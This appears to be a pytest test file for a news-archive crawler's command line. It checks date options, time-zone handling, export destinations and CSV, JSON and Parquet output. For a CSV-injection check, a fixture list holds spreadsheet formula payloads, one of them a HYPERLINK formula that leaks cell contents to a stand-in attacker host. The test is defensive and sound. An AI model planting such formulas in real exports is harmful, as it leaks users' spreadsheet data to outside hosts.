"""What the CLI writes and reads at its edges (issue #14: 15, 18, 19, 20, 28): date options,
export destinations, CSV for programs and for spreadsheets, query/runs output formats."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from archive import RUN_SCHEMA, PartWriter
from archive.writer import publish_table
from crawler.cli import main
from tests.helpers import make_row

VN = timezone(timedelta(hours=7))
DOCS = Path(__file__).resolve().parents[1] / "docs"
#: Cells a spreadsheet would read as a formula (OWASP "CSV injection").
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def arc(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("formats") / "archive"
    rows = [make_row(i) for i in range(len(HOSTILE) + 1)]
    for row, title in zip(rows, HOSTILE, strict=False):
        row["title"] = title
    # A date-only page: local midnight, the previous day in UTC (the others are from the 21st).
    rows[-1].update(title="Hội nghị tổng kết", published_at=datetime(2021, 2, 20, tzinfo=VN),
                    date_precision="day")
    writer = PartWriter(root, partition={"source": "demo-huecit"})
    writer.extend(rows)
    writer.close()
    run = {name: None for name in RUN_SCHEMA.names}
    run.update(run_id="demo-huecit-r1", source="demo-huecit",
               started_at=datetime(2026, 11, 1, 3, 0, tzinfo=UTC),
               finished_at=datetime(2026, 11, 1, 3, 5, tzinfo=UTC), finish_reason="finished")
    publish_table(root, "runs", pa.Table.from_pylist([run], schema=RUN_SCHEMA), prefix="run")
    return root


def run(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args])


def _usage_error(result, option: str) -> None:
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)  # not an uncaught exception
    assert f"Invalid value for '{option}'" in result.output
    assert "Traceback" not in result.output and "Conversion Error" not in result.output


# -- 18: one date parser for every date option ---------------------------------------------------
@pytest.mark.parametrize("value", ["0001-01-01", "notadate", "2024-02-30", "2024-1-5", "20240105",
                                   "2024-01-01T25:00"])
@pytest.mark.parametrize(("command", "option"), [
    (["search", "hoi"], "--since"), (["search", "hoi"], "--until"), (["dupes"], "--since"),
    (["export", "--format", "csv", "-o", "{out}"], "--since"),
    (["export", "--format", "csv", "-o", "{out}"], "--until"),
])
def test_bad_dates_are_usage_errors_everywhere(arc, tmp_path, command, option, value):
    out = tmp_path / "x.csv"
    args = [a.replace("{out}", str(out)) for a in command]
    _usage_error(run(*args, option, value, "--archive", arc), option)
    assert not out.exists()


def test_dates_and_moments_are_accepted(arc, tmp_path):
    from archive.dates import parse_date_bound

    assert parse_date_bound("2021-02-21") == date(2021, 2, 21)
    assert parse_date_bound("2021-02-21T10:00") == datetime(2021, 2, 21, 3, tzinfo=UTC)
    assert parse_date_bound("2021-02-21T03:00Z") == datetime(2021, 2, 21, 3, tzinfo=UTC)
    # Midnight local: the date-only article of 2021-02-20 is in, the one of 2021-02-21 10:25 out.
    out = tmp_path / "x.jsonl"
    result = run("export", "--format", "jsonl", "-o", out, "--since", "2021-02-20",
                 "--until", "2021-02-21", "--archive", arc)
    assert result.exit_code == 0, result.output
    assert [json.loads(x)["title"] for x in out.read_text().splitlines()] == ["Hội nghị tổng kết"]
    result = run("export", "--format", "jsonl", "-o", "-", "--since", "2021-02-20T00:00+07:00",
                 "--until", "2021-02-19T17:00:01Z", "--archive", arc)
    assert [json.loads(x)["title"] for x in result.stdout.splitlines()] == ["Hội nghị tổng kết"]
    assert run("index", "--archive", arc).exit_code == 0  # its report would go to stdout
    result = run("search", "hoi nghi", "--since", "2021-02-20", "--until", "2021-02-21",
                 "--format", "json", "--archive", arc)
    assert [h["title"] for h in json.loads(result.stdout)] == ["Hội nghị tổng kết"]
    assert run("dupes", "--since", "2021-02-20", "--archive", arc).exit_code == 0
    help_text = run("export", "--help").output
    assert "YYYY-MM-DD" in help_text and "Asia/Ho_Chi_Minh" in help_text


# -- 15: date-only values cannot be misread in another time zone ---------------------------------
def test_export_carries_the_local_publication_date(arc, tmp_path):
    out = tmp_path / "x.csv"
    assert run("export", "--format", "csv", "-o", out, "--archive", arc).exit_code == 0
    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(out.read_text("utf-8")))}
    day = rows["Hội nghị tổng kết"]
    assert day["published_at"] == "2021-02-20T00:00:00+07:00" and day["published_date"] == "2021-02-20"
    out = tmp_path / "x.parquet"
    assert run("export", "--format", "parquet", "-o", out, "--archive", arc).exit_code == 0
    table = pq.read_table(out)
    assert table.schema.field("published_date").type == pa.date32()
    assert table.column_names.index("published_date") == table.column_names.index("published_at") + 1
    # Read in UTC, as a plain DuckDB on a UTC machine does, the date column still says the 20th.
    con = duckdb.connect()
    con.sql("SET TimeZone = 'UTC'")
    got = con.execute("SELECT published_at::DATE, published_date FROM read_parquet(?) "
                      "WHERE title = 'Hội nghị tổng kết'", [str(out)]).fetchall()
    assert got == [(date(2021, 2, 19), date(2021, 2, 20))]


def test_fields_doc_says_how_to_read_dates_and_the_recipe_works(arc):
    doc = (DOCS / "fields.md").read_text("utf-8")
    statement = "SET TimeZone = 'Asia/Ho_Chi_Minh'"
    assert statement in doc and "published_date" in doc
    assert "dt.convert_time_zone" in doc and "dt.tz_convert" in doc  # Polars, pandas
    con = duckdb.connect()
    con.sql("SET TimeZone = 'UTC'")
    glob = str(arc / "articles" / "*" / "*.parquet")
    query = "SELECT published_at::DATE FROM read_parquet(?) WHERE title = 'Hội nghị tổng kết'"
    assert con.execute(query, [glob]).fetchall() == [(date(2021, 2, 19),)]  # the trap
    con.sql(statement)
    assert con.execute(query, [glob]).fetchall() == [(date(2021, 2, 20),)]
    utc = duckdb.connect()
    utc.sql("SET TimeZone = 'UTC'")
    assert utc.execute("SELECT timezone('Asia/Ho_Chi_Minh', published_at)::DATE FROM read_parquet(?) "
                       "WHERE title = 'Hội nghị tổng kết'", [glob]).fetchall() == [(date(2021, 2, 20),)]
    assert "timezone('Asia/Ho_Chi_Minh', published_at)::DATE" in doc


# -- 19: export destinations ----------------------------------------------------------------------
def test_export_into_a_missing_folder_is_one_clear_line(arc, tmp_path):
    result = run("export", "--format", "csv", "-o", tmp_path / "missing" / "dir" / "x.csv",
                 "--archive", arc)
    assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output
    assert "does not exist" in result.output and str(tmp_path / "missing" / "dir") in result.output
    assert ".part" not in result.output and "Traceback" not in result.output


def test_export_to_stdout(arc, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("export", "--format", "csv", "-o", "-", "--archive", arc)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(HOSTILE) + 1 and "Hội nghị tổng kết" in {r["title"] for r in rows}
    assert "written to stdout" in result.stderr
    assert list(tmp_path.iterdir()) == []  # no file named "-"
    result = run("export", "--format", "parquet", "-o", "-", "--archive", arc)
    assert result.exit_code == 0
    assert pq.read_table(io.BytesIO(result.stdout_bytes)).num_rows == len(HOSTILE) + 1


def test_export_does_not_replace_a_file_unless_forced(arc, tmp_path):
    out = tmp_path / "x.csv"
    out.write_text("keep me")
    result = run("export", "--format", "csv", "-o", out, "--archive", arc)
    assert result.exit_code == 2 and "already exists" in result.output and "--force" in result.output
    assert out.read_text() == "keep me"
    result = run("export", "--format", "csv", "-o", out, "--force", "--archive", arc)
    assert result.exit_code == 0 and out.read_text().startswith("article_id,")
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]


def test_library_export_can_refuse_to_replace(arc, tmp_path):
    from archive import open_archive
    from archive.export import export_articles

    out = tmp_path / "x.jsonl"
    out.write_text("keep me")
    with open_archive(arc) as archive, pytest.raises(FileExistsError):
        export_articles(archive, out, "jsonl", overwrite=False)
    assert out.read_text() == "keep me" and [p.name for p in tmp_path.iterdir()] == ["x.jsonl"]


# -- 20: CSV for spreadsheets ---------------------------------------------------------------------
def test_excel_csv_has_a_bom_and_no_formulas(arc, tmp_path):
    out = tmp_path / "x.csv"
    result = run("export", "--format", "csv", "--excel", "-o", out, "--archive", arc)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    titles = {r["title"] for r in rows}
    assert titles == {"'" + t for t in HOSTILE} | {"Hội nghị tổng kết"}
    for row in rows:  # no cell of any column starts a formula
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
    # The plain CSV is for programs: values exactly as archived, no BOM.
    out = tmp_path / "plain.csv"
    assert run("export", "--format", "csv", "-o", out, "--archive", arc).exit_code == 0
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert set(HOSTILE) <= {r["title"] for r in csv.DictReader(io.StringIO(raw.decode(), newline=""))}
    assert "spreadsheet" in run("export", "--help").output.lower()


def test_excel_applies_to_csv_only(arc, tmp_path):
    result = run("export", "--format", "jsonl", "--excel", "-o", tmp_path / "x.jsonl", "--archive", arc)
    assert result.exit_code == 2 and "--excel" in result.output
    assert not (tmp_path / "x.jsonl").exists()


# -- 28: query CSV and runs JSON --------------------------------------------------------------------
def test_query_csv_writes_lists_and_structs_as_json(arc):
    result = run("query", "SELECT authors, images, published_at FROM articles LIMIT 1",
                 "--format", "csv", "--archive", arc)
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert json.loads(row["authors"]) == ["Minh Châu"]
    assert json.loads(row["images"]) == [{"src": "http://x/a.jpg", "caption": "Quang cảnh",
                                          "credit": "Ảnh: A", "status": None, "media_type": None,
                                          "bytes": None, "sha256": None, "warc_file": None,
                                          "warc_offset": None, "warc_length": None}]
    assert "T" in row["published_at"] and datetime.fromisoformat(row["published_at"]).tzinfo
    # A lone CR inside a value stays inside its cell (csv quotes "\n" but not "\r").
    result = run("query", "SELECT 'a' || chr(13) || 'b' AS t, 1 AS n", "--format", "csv", "--archive", arc)
    assert list(csv.DictReader(io.StringIO(result.stdout, newline=""))) == [{"t": "a\rb", "n": "1"}]
    result = run("query", "SELECT published_at, DATE '2021-02-20' AS d FROM articles LIMIT 1",
                 "--format", "json", "--archive", arc)
    (record,) = json.loads(result.stdout)
    assert "T" in record["published_at"] and record["d"] == "2021-02-20"


def test_runs_json_timestamps_are_iso_8601_with_offset(arc):
    result = run("runs", "--json", "--archive", arc)
    assert result.exit_code == 0, result.output
    (record,) = json.loads(result.stdout)
    for key in ("started_at", "finished_at"):
        value = record[key]
        assert "T" in value, value
        assert datetime.fromisoformat(value) == {"started_at": datetime(2026, 11, 1, 3, 0, tzinfo=UTC),
                                                 "finished_at": datetime(2026, 11, 1, 3, 5,
                                                                         tzinfo=UTC)}[key]
        assert datetime.fromisoformat(value).utcoffset() is not None


def test_search_json_stays_json_when_the_index_is_built_first(arc, tmp_path):
    """The first search builds the index: its note goes to stderr, never into the JSON."""
    import shutil

    fresh = tmp_path / "archive"
    shutil.copytree(arc, fresh)
    shutil.rmtree(fresh / "search", ignore_errors=True)
    out = CliRunner().invoke(main, ["search", "hội nghị", "--format", "json", "--archive",
                                    str(fresh)])
    assert out.exit_code == 0, out.output
    assert out.stdout.lstrip().startswith("["), (out.stdout, out.stderr)
    hits = json.loads(out.stdout)
    assert any(h["title"] == "Hội nghị tổng kết" for h in hits)
    assert "search index" in out.stderr
